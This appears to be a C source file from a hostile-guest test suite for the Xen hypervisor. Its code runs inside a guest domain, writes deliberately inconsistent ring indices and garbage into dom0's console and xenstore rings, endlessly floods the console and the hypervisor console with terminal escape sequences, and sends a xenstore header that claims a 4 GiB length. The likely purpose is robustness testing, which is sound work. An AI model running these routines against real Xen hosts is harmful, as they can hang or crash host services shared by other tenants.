/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Lies to dom0's console and store daemons through their rings, and floods consoles. */
#include "hostile.h"

#define RING_LIES 64

/* Numbers that are wrong, and differ. */
static u32 lie(u32 round)
{
	static const u32 offsets[] = {1,	  2049,	      5000,	  0x7fffffff,
				      0x80000000, 0x80000001, 0xfffff000, 0xffffffff};

	return offsets[round % ARRAY_SIZE(offsets)] + round;
}

void console_garbage(void)
{
	for (u32 i = 0; i < RING_LIES; i++) {
		memset(console_ring->out, (int)(0x80 + i), sizeof(console_ring->out));
		console_ring->out_prod = console_ring->out_cons + lie(i);
		port_send(console_port);
		hc_sched_op(SCHEDOP_yield, NULL);
		console_ring->out_cons += lie(i + 3);
		console_ring->in_cons = console_ring->in_prod + lie(i + 5);
		console_ring->in_prod -= lie(i);
		port_send(console_port);
		hc_sched_op(SCHEDOP_yield, NULL);
	}
	memset(console_ring, 0xff, sizeof(*console_ring));
	port_send(console_port);
}

/* As fast as the other end takes it, with what terminals obey. */
void console_flood(void)
{
	static const char text[] =
		"\033[2J\033]0;title\007\033[?1049h\0\xff\xfe flood \r\n";
	u32 prod = console_ring->out_prod, at = 0;

	for (;;) {
		while (prod - READ_ONCE(console_ring->out_cons) <
		       sizeof(console_ring->out)) {
			console_ring->out[prod % sizeof(console_ring->out)] = text[at];
			at = (at + 1) % sizeof(text);
			__atomic_store_n(&console_ring->out_prod, ++prod,
					 __ATOMIC_SEQ_CST);
		}
		port_send(console_port);
	}
}

/* The hypervisor's own console, as for early messages. */
void hypervisor_console_flood(void)
{
	static char text[4 * PAGE_SIZE];

	memset(text, '\n', sizeof(text));
	for (u32 i = 0; i < sizeof(text); i++)
		if (i % 64)
			text[i] = 'x';
	for (;;)
		hypercall3(__HYPERVISOR_console_io, CONSOLEIO_write, sizeof(text), text);
}

/* After these two nobody listens any more: "done" must not be waited for. */
void store_garbage(void)
{
	for (u32 i = 0; i < RING_LIES; i++) {
		memset(store_ring->req, (int)i, sizeof(store_ring->req));
		store_ring->req_prod = store_ring->req_cons + lie(i);
		store_ring->rsp_cons = store_ring->rsp_prod + lie(i + 1);
		port_send(store_port);
		hc_sched_op(SCHEDOP_yield, NULL);
		store_ring->req_cons += lie(i + 3);
		store_ring->rsp_prod -= lie(i + 5);
		store_ring->connection = lie(i);
		store_ring->error = lie(i);
		port_send(store_port);
		hc_sched_op(SCHEDOP_yield, NULL);
	}
	domu_shutdown(SHUTDOWN_poweroff);
}

/* Announces 4 GiB of value, sends it round the ring for a while. */
void store_large_header(void)
{
	struct xsd_sockmsg head = {.type = XS_WRITE, .len = 0xffffffff};

	for (u32 i = 0; i < sizeof(head); i++)
		store_ring->req[MASK_XENSTORE_IDX(store_ring->req_prod + i)] =
			((const char *)&head)[i];
	store_ring->req_prod = store_ring->req_cons + XENSTORE_RING_SIZE;
	for (u32 i = 0; i < RING_LIES; i++) {
		port_send(store_port);
		hc_sched_op(SCHEDOP_yield, NULL);
		store_ring->req_prod =
			READ_ONCE(store_ring->req_cons) + XENSTORE_RING_SIZE;
	}
	domu_shutdown(SHUTDOWN_poweroff);
}
